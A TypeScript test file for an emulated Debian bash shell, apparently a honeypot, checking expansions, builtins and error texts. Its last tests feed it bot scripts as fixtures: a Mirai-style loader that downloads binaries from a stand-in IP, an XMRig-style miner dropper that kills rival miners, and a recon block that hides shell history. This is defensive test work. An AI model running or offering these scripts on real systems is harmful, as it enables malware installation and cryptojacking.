// The shell language through the Shell: compound commands, functions, expansions, builtins, bash's error texts,
// subshell isolation, loop caps, terminal input, and real bot scripts end to end. Expected texts come from
// Debian 12's bash 5.2 and dash run on the same input.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { debianShell, out } from './system/test-shell.js';

test('if / elif / else, while, until, for, C-style for, break and continue', async () => {
  assert.equal(await out('if false; then echo a; elif true; then echo b; else echo c; fi'), 'b\n');
  assert.equal(await out('x=0; while [ $x -lt 3 ]; do echo $x; x=$((x+1)); done'), '0\n1\n2\n');
  assert.equal(await out('x=0; until [ $x -ge 2 ]; do echo u$x; x=$((x+1)); done'), 'u0\nu1\n');
  assert.equal(await out('for i in 1 2 3 4 5; do if [ $i = 3 ]; then continue; fi; if [ $i = 5 ]; then break; fi; echo $i; done'), '1\n2\n4\n');
  assert.equal(await out('for ((i=0; i<3; i++)); do echo $i; done'), '0\n1\n2\n');
  assert.equal(await out('for i in 1 2; do for j in a b; do [ $j = b ] && continue 2; echo $i$j; done; done'), '1a\n2a\n');
  assert.equal(await out('for i in 1 2; do for j in a b; do break 2; done; echo no; done; echo out'), 'out\n');
  assert.equal(await out('set -- x "y z"; for a; do echo "<$a>"; done'), '<x>\n<y z>\n');
  assert.equal(await out('for 1 in a; do :; done'), "bash: line 1: `1': not a valid identifier\n");
  assert.equal(await out('break; echo $?'), "bash: line 1: break: only meaningful in a `for', `while', or `until' loop\n0\n");
});

test('case with globs, alternatives, classes and fall-through', async () => {
  assert.equal(await out('case foo.tar.gz in *.zip) echo zip;; *.tar.*) echo tar;; esac'), 'tar\n');
  assert.equal(await out('case x in a|x) echo hit;; *) echo miss;; esac'), 'hit\n');
  assert.equal(await out('case z in [a-c]) echo low;; [x-z]) echo high;; esac'), 'high\n');
  assert.equal(await out('case 5 in [[:digit:]]) echo digit;; esac'), 'digit\n');
  assert.equal(await out('case a in a) echo one;& b) echo two;; c) echo three;; esac'), 'one\ntwo\n');
  assert.equal(await out('p="a*"; case abc in "$p") echo literal;; $p) echo glob;; esac'), 'glob\n');
});

test('functions: arguments, $#, $@, shift, return, local, recursion cap', async () => {
  assert.equal(await out('f() { echo "args: $# $1 $2"; }; f one two'), 'args: 2 one two\n');
  assert.equal(await out('function g { echo g $1; }; g x; function h() (echo sub); h'), 'g x\nsub\n');
  assert.equal(await out('f() { shift; echo "$@"; }; f a b c'), 'b c\n');
  assert.equal(await out('f() { return 3; echo no; }; f; echo $?'), '3\n');
  assert.equal(await out('f() { local v=in; echo $v; }; v=out; f; echo $v'), 'in\nout\n');
  assert.equal(await out('x=1; f() { x=2; }; f; echo $x'), '2\n');
  assert.equal(await out('return'), "bash: line 1: return: can only `return' from a function or sourced script\n");
  assert.equal(await out('local x=1'), 'bash: line 1: local: can only be used in a function\n');
  assert.match(await out('f() { f; }; f; echo survived'), /maximum function nesting level exceeded \(100\)\nsurvived\n$/);
  assert.equal(await out('f() { echo in f; }; type f; command -v f'), 'f is a function\nf\n');
});

test('subshells and pipelines isolate cd, variables and exit', async () => {
  const s = debianShell();
  assert.equal(await out('(cd /tmp; x=1; exit 4); echo $? ${x:-unset} $PWD', s), '4 unset /root\n');
  assert.equal(await out('echo value | read v; echo "[$v]"', s), '[]\n');
  assert.equal(await out('echo "a b c" | { read x y; echo "$x|$y"; }', s), 'a|b c\n');
  assert.equal(await out('x=$(cd /etc; echo $PWD); echo $x $PWD', s), '/etc /root\n');
  assert.equal(await out('sh -c "cd /tmp; y=2"; echo ${y:-unset} $PWD', s), 'unset /root\n');
  assert.equal(await out('{ echo a; echo b; } | wc -l', s), '2\n');
});

test('parameter expansion: defaults, lengths, trims, replacement, case, substrings', async () => {
  assert.equal(await out('echo ${undefined:-default} ${HOME:+set}; x=; echo "[${x:-d}] [${x-d}]"'), 'default set\n[d] []\n');
  assert.equal(await out('echo ${y:=assigned}; echo $y'), 'assigned\nassigned\n');
  assert.equal(await out('echo ${x:?custom msg}; echo after'), 'bash: line 1: x: custom msg\n');
  assert.equal(await out('p=/usr/local/bin/foo.sh; echo ${#p} ${p##*/} ${p%/*} ${p#*/} ${p%%/*}x ${p%.sh}'), '21 foo.sh /usr/local/bin usr/local/bin/foo.sh x /usr/local/bin/foo\n');
  assert.equal(await out('s=hello; echo ${s/l/L} ${s//l/L} ${s^^} ${s^} ${s:1:3} ${s: -2} ${s/#h/J}'), 'heLlo heLLo HELLO Hello ell lo Jello\n');
  assert.equal(await out('r=HOME; echo ${!r}'), '/root\n');
  assert.equal(await out('echo ${a b}; echo after'), 'bash: line 1: ${a b}: bad substitution\n');
});

test('arithmetic with bash integer semantics and error texts', async () => {
  assert.equal(await out('echo $((1+2*3)) $((10/3)) $((-7/2)) $((10%3)) $((2**10)) $((1<<4)) $((0x10 + 010 + 2#101))'), '7 3 -3 1 1024 16 29\n');
  assert.equal(await out('echo $(( 9223372036854775807 + 1 ))'), '-9223372036854775808\n');
  assert.equal(await out('x=5; echo $((x*2)) $((x++)) $x $((++x)) $((x > 3 ? 10 : 20))'), '10 5 6 7 10\n');
  assert.equal(await out('echo $((1/0)); echo after'), 'bash: line 1: 1/0: division by 0 (error token is "0")\n');
  assert.equal(await out('echo $(( 1 + ))'), 'bash: line 1: 1 + : syntax error: operand expected (error token is "+ ")\n');
  assert.equal(await out('(( 5 > 3 )) && echo yes; (( 0 )) || echo no; (( 1 / 0 )); echo $?'), 'yes\nno\nbash: line 1: ((: 1 / 0 : division by 0 (error token is "0 ")\n1\n');
  assert.equal(await out('let x=3+4; echo $x; let 0; echo $?'), '7\n1\n');
});

test('word splitting, "$@" and "$*", IFS, quoting', async () => {
  assert.equal(await out('set -- a b "c d"; echo $#; for x in "$@"; do echo "<$x>"; done; for x in $*; do echo "[$x]"; done'), '3\n<a>\n<b>\n<c d>\n[a]\n[b]\n[c]\n[d]\n');
  assert.equal(await out('IFS=:; x="a:b:c"; for i in $x; do echo $i; done'), 'a\nb\nc\n');
  assert.equal(await out('x="  lead  trail  "; echo [$x] "[$x]"'), '[ lead trail ] [  lead  trail  ]\n');
  assert.equal(await out(`echo "\${HOME}" '\${HOME}' "\\$HOME" \\* "*"`), '/root ${HOME} $HOME * *\n');
  assert.equal(await out('cmd="echo hi"; $cmd there'), 'hi there\n');
});

test('brace expansion, tilde, globbing against the file system', async () => {
  assert.equal(await out('echo {a,b,c}x {1..4} {05..10..2} {a..e} a{b,c{d,e}}f {1..3}{x,y}'), 'ax bx cx 1 2 3 4 05 07 09 a b c d e abf acdf acef 1x 1y 2x 2y 3x 3y\n');
  assert.equal(await out('echo ~ ~/x ~root ~nobody'), '/root /root/x /root ~nobody\n');
  const s = debianShell();
  await out('mkdir -p /tmp/g && touch /tmp/g/a.sh /tmp/g/b.sh /tmp/g/c.txt /tmp/g/.hidden', s);
  assert.equal(await out('echo /tmp/g/*.sh; cd /tmp/g; echo *; echo *.none; echo [ab].*; echo ?.txt; echo "*"', s), '/tmp/g/a.sh /tmp/g/b.sh\na.sh b.sh c.txt\n*.none\na.sh b.sh\nc.txt\n*\n');
  assert.equal(await out('echo /et*/host*', s), '/etc/host.conf /etc/hostname /etc/hosts\n');
  assert.equal(await out('set -f; echo /tmp/g/*', s), '/tmp/g/*\n');
});

test('here-documents and here-strings', async () => {
  assert.equal(await out('cat <<EOF\nhello $HOME\n$(echo sub) $((1+1))\nEOF'), 'hello /root\nsub 2\n');
  assert.equal(await out("cat <<'EOF'\nliteral $HOME\nEOF"), 'literal $HOME\n');
  assert.equal(await out('cat <<-EOF\n\ttabbed\n\tEOF'), 'tabbed\n');
  assert.equal(await out('cat <<EOF\nunterminated'), "bash: line 2: warning: here-document at line 1 delimited by end-of-file (wanted `EOF')\nunterminated\n");
  assert.equal(await out('read a b <<< "one two three"; echo "[$a] [$b]"'), '[one] [two three]\n');
  assert.equal(await out('printf "1\\n2\\n3\\n" | while read n; do echo "n=$n"; done'), 'n=1\nn=2\nn=3\n');
  assert.equal(await out('cat /etc/os-release | while IFS="=" read k v; do [ "$k" = ID ] && echo "id is $v"; done'), 'id is debian\n');
});

test('test, [ and [[ with strings, integers and files', async () => {
  assert.equal(await out('test -d /tmp && echo dir; [ -f /etc/passwd ] && echo file; [ -e /nope ] || echo none; [ -x /bin/ls ] && echo exec'), 'dir\nfile\nnone\nexec\n');
  assert.equal(await out('[ 1 -eq a ]; echo $?'), 'bash: line 1: [: a: integer expression expected\n2\n');
  assert.equal(await out('[ a'), "bash: line 1: [: missing `]'\n");
  assert.equal(await out('test a b'), 'bash: line 1: test: a: unary operator expected\n');
  assert.equal(await out('test 1 -lt 2 -a 3 -gt 4; echo $?; [ -z "" -o x ]; echo $?; [ ! -n "" ] && echo neg'), '1\n0\nneg\n');
  assert.equal(await out('[[ abc == a* ]] && echo match; [[ -n "" ]] || echo empty; [[ 1 -lt 2 && 3 -gt 2 ]] && echo both; [[ abc =~ ^a.c$ ]] && echo re; [[ a < b ]] && echo lt'), 'match\nempty\nboth\nre\nlt\n');
  assert.equal(await out('/usr/bin/[ 2 -gt 1 ] && echo path'), 'path\n');
  assert.equal(await out('[[ aaa =~ ^(a+)+$ ]] && echo re; v=1.2; [[ 1x2 =~ $v ]] && echo unq; [[ 1x2 =~ "$v" ]] || echo quoted'), 're\nunq\nquoted\n');
  // Patterns compile for the linear engine: a backtracking bomb answers at once.
  assert.equal(await out('x=$(printf "a%.0s" {1..3000}); case $x in *a*a*a*a*a*a*b) echo m;; *) echo nm;; esac'), 'nm\n');
});

test('builtins: set, eval, exec, trap, ulimit, umask, alias, command -v, hash, wait, jobs, read, export, unset', async () => {
  assert.equal(await out('eval \'echo evaluated $((2+2))\''), 'evaluated 4\n');
  assert.equal(await out('exec echo execd; echo never'), 'execd\n');
  assert.equal(await out('set -x; echo traced "a b"; x=3; set +x; echo quiet'), "+ echo traced 'a b'\ntraced a b\n+ x=3\n+ set +x\nquiet\n");
  assert.equal(await out('set -e; false; echo notreached'), '');
  assert.equal(await out('set -e; false || true; if false; then :; fi; echo reached'), 'reached\n');
  assert.equal(await out('set -u; echo $nope; echo after'), 'bash: line 1: nope: unbound variable\n');
  assert.equal(await out('set -- a b; echo $# "$*"; shift 5; echo $?'), '2 a b\n1\n');
  assert.match(await out('set | grep ^HOME='), /^HOME=\/root\n$/);
  assert.equal(await out('set -o | grep errexit'), 'errexit        \toff\n');
  assert.equal(await out("trap 'echo bye' INT; trap"), "trap -- 'echo bye' SIGINT\n");
  assert.equal(await out('ulimit; ulimit -n; ulimit -n abc'), 'unlimited\n1024\nbash: line 1: ulimit: abc: invalid number\n');
  assert.equal(await out('umask; umask 077; umask; umask -S; umask 999'), '0022\n0077\nu=rwx,g=,o=\nbash: line 1: umask: 999: octal number out of range\n');
  assert.equal(await out("alias ll='ls -l'; alias; alias x; unalias q"), "alias ll='ls -l'\nbash: line 1: alias: x: not found\nbash: line 1: unalias: q: not found\n");
  assert.equal(await out('command -v ls cd nope; echo $?; command -V cd'), '/usr/bin/ls\ncd\n0\ncd is a shell builtin\n');
  assert.equal(await out('hash; hash nope'), 'hash: hash table empty\nbash: line 1: hash: nope: not found\n');
  assert.equal(await out('wait 99; echo $?; jobs; wait'), 'bash: line 1: wait: pid 99 is not a child of this shell\n127\n');
  assert.equal(await out("read -r line <<< 'a\\b'; echo \"$line\"; read line <<< 'a\\b'; echo \"$line\""), 'a\\b\nab\n');
  assert.equal(await out('export FOO=bar; env | grep FOO; X=1; env | grep -c ^X=; export -p | grep FOO; export 1a'), 'FOO=bar\n0\ndeclare -x FOO="bar"\nbash: line 1: export: `1a\': not a valid identifier\n');
  assert.equal(await out('VAR=val env | grep ^VAR; echo ${VAR-unset}'), 'VAR=val\nunset\n');
  assert.equal(await out('unset HOME; echo ${HOME-gone}'), 'gone\n');
});

test("syntax errors: bash's texts with line numbers; dash's for sh -c; lines before the error still run", async () => {
  assert.equal(await out('if true; then'), 'bash: -c: line 2: syntax error: unexpected end of file\n');
  assert.equal(await out('echo a; fi'), "bash: -c: line 1: syntax error near unexpected token `fi'\nbash: -c: line 1: `echo a; fi'\n");
  assert.equal(await out('echo a\nnope\nif true; fi'), "a\nbash: line 2: nope: command not found\nbash: -c: line 3: syntax error near unexpected token `fi'\nbash: -c: line 3: `if true; fi'\n");
  assert.equal(await out('f() echo'), "bash: -c: line 1: syntax error near unexpected token `echo'\nbash: -c: line 1: `f() echo'\n");
  assert.equal(await out("sh -c 'if true; then'"), 'sh: 1: Syntax error: end of file unexpected (expecting "fi")\n');
  assert.equal(await out("sh -c 'if true; fi'"), 'sh: 1: Syntax error: "fi" unexpected (expecting "then")\n');
  assert.equal(await out("sh -c 'for x in a; echo'"), 'sh: 1: Syntax error: word unexpected (expecting "do")\n');
  assert.equal(await out("sh -c 'echo $0 $1' zero one; sh -c 'nope'"), 'zero one\nsh: 1: nope: not found\n');
  const i = debianShell({ mode: 'interactive' });
  assert.equal(await out('for x in a; do echo $x; fi', i), "-bash: syntax error near unexpected token `fi'\n");
});

test('an interactive shell waits for the rest of a compound command, a here-document or a function', async () => {
  const s = debianShell({ mode: 'interactive' });
  const feed = async (lines: string[]): Promise<string> => {
    let o = '';
    for (const l of lines) {
      const r = await s.run(l);
      o += r.output;
      assert.equal(s.prompt(), r.continuation ? '> ' : 'root@web-prod-02:~# ');
    }
    return o;
  };
  assert.equal(await feed(['if true; then', 'echo in-if', 'fi']), 'in-if\n');
  assert.equal(await feed(['cat <<EOF', 'body $HOME', 'EOF']), 'body /root\n');
  assert.equal(await feed(['f() {', '  echo fn $1', '}', 'f arg']), 'fn arg\n');
  assert.equal(await feed(['alias hi="echo hello"', 'hi world', 'echo $-']), 'hello world\nhimBHs\n');
});

test('endless loops stop at the step cap; the output so far is shown and the session goes on', async () => {
  const s = debianShell({ mode: 'interactive' });
  const r = await s.run('echo start; while true; do :; done; echo never');
  assert.equal(r.output, 'start\n');
  assert.equal(r.exit, false);
  assert.equal((await s.run('echo alive')).output, 'alive\n');
  assert.equal((await s.run('for i in {1..100000}; do echo $i; done | tail -1')).output.length < 10, true);
});

test('a command reading the terminal takes the next input line, as on a real tty', async () => {
  const s = debianShell({ mode: 'interactive' });
  const r = await s.run('read -p "Name: " v; echo "got $v"');
  assert.deepEqual([r.output, r.awaitingInput], ['Name: ', true]);
  const r2 = await s.run('typed text');
  assert.deepEqual([r2.output, r2.awaitingInput ?? false], ['got typed text\n', false]);
  // Without a terminal (an exec request) read meets end of input at once.
  assert.equal(await out('read v; echo "status $? [$v]"'), 'status 1 []\n');
});

test('a script written earlier in the session runs with its own $0 and line numbers', async () => {
  const s = debianShell();
  await out("printf 'echo \"$0 $1 $#\"\\nnope\\ncd /tmp\\n' > /root/x.sh; chmod +x /root/x.sh", s);
  assert.equal(await out('./x.sh arg; pwd', s), './x.sh arg 1\n./x.sh: line 2: nope: command not found\n/root\n');
  assert.equal(await out('sh x.sh; . ./x.sh; pwd', s), 'x.sh  0\nx.sh: 2: nope: not found\nbash  0\n./x.sh: line 2: nope: command not found\n/tmp\n');
});

test('a Mirai-style loader script runs end to end without unknown commands', async () => {
  const unknown: string[] = [];
  const s = debianShell({ onUnknown: (u) => unknown.push(u) });
  const script = [
    '#!/bin/sh',
    'cd /tmp || cd /var/run || cd /mnt || cd /root || cd /',
    'for arch in x86 arm7 mips; do',
    '  if [ -f .b ]; then rm -f .b; fi',
    '  echo "fetching $arch"',
    '  (wget -q http://198.51.100.7/bins/$arch -O .b || curl -s -o .b http://198.51.100.7/bins/$arch) >/dev/null 2>&1',
    '  chmod 777 .b 2>/dev/null',
    'done',
    'rm -rf .b; echo loaded',
  ].join('\n');
  assert.equal(await out(script, s), 'fetching x86\nfetching arm7\nfetching mips\nloaded\n');
  assert.deepEqual(unknown, []);
});

test('an XMRig-style dropper with functions, case, arithmetic and a here-document', async () => {
  const unknown: string[] = [];
  const s = debianShell({ onUnknown: (u) => unknown.push(u) });
  const script = `#!/bin/bash
ARCH=$(uname -m)
if [ "$(whoami)" != root ]; then echo "not root"; exit 1; fi
case $ARCH in
  x86_64) URL_ARCH=x64 ;;
  aarch64|arm64) URL_ARCH=arm64 ;;
  *) echo "unsupported $ARCH"; exit 1 ;;
esac
CORES=$(nproc)
THREADS=$((CORES > 1 ? CORES - 1 : 1))
install_dir=/tmp/.xm
mkdir -p $install_dir
cat > $install_dir/config.json <<EOF
{"cpu": {"max-threads-hint": $THREADS}, "pools": [{"url": "pool.example:3333"}]}
EOF
kill_miners() {
  for p in xmrig kinsing kdevtmpfsi; do
    pkill -f $p 2>/dev/null
  done
  return 0
}
kill_miners && echo "cleaned"
if ! grep -q xm /etc/crontab 2>/dev/null; then
  echo "arch $URL_ARCH threads $THREADS"
fi
cat $install_dir/config.json`;
  const cores = Number((await out('nproc', s)).trim());
  const threads = cores > 1 ? cores - 1 : 1;
  assert.equal(await out(`echo '${script.replace(/'/g, "'\\''")}' > /tmp/d.sh; bash /tmp/d.sh`, s), `cleaned\narch x64 threads ${threads}\n{"cpu": {"max-threads-hint": ${threads}}, "pools": [{"url": "pool.example:3333"}]}\n`);
  assert.deepEqual(unknown, []);
});

test('the recon block bots paste: sourced os-release, command probes, writable-directory search', async () => {
  const unknown: string[] = [];
  const s = debianShell({ onUnknown: (u) => unknown.push(u) });
  const script = `if [ -f /etc/os-release ]; then . /etc/os-release; echo "$ID $VERSION_ID"; fi
for bin in wget curl tftp; do command -v $bin >/dev/null 2>&1 && echo "have $bin"; done
for d in /tmp /var/tmp /dev/shm; do if [ -w $d ]; then cd $d && echo "using $d" && break; fi; done
if ! type export >/dev/null 2>&1; then echo "no export"; fi
export HISTFILE=/dev/null HISTSAVE=/dev/null; unset HISTFILE HISTSAVE
echo "\${SHELL##*/} $(whoami)@$(hostname)"`;
  assert.equal(await out(script, s), 'debian 12\nhave wget\nhave curl\nusing /tmp\nbash root@web-prod-02\n');
  assert.deepEqual(unknown, []);
});

test('a reversed bracket range matches nothing, as in bash, in case, [[ ]] and find -name alike', async () => {
  assert.equal(await out("case b in [z-a]) echo y;; *) echo n;; esac"), 'n\n');
  assert.equal(await out("[[ b == [a-c] ]] && echo in; [[ - == [a-] ]] && echo dash; [[ x == [\\a-\\z] ]] && echo esc"), 'in\ndash\nesc\n');
  assert.equal(await out("find /etc -maxdepth 1 -name '[z-a]*'; echo $?"), '0\n');
  assert.equal(await out("find /etc -maxdepth 1 -name 'host*'"), '/etc/host.conf\n/etc/hostname\n/etc/hosts\n');
});
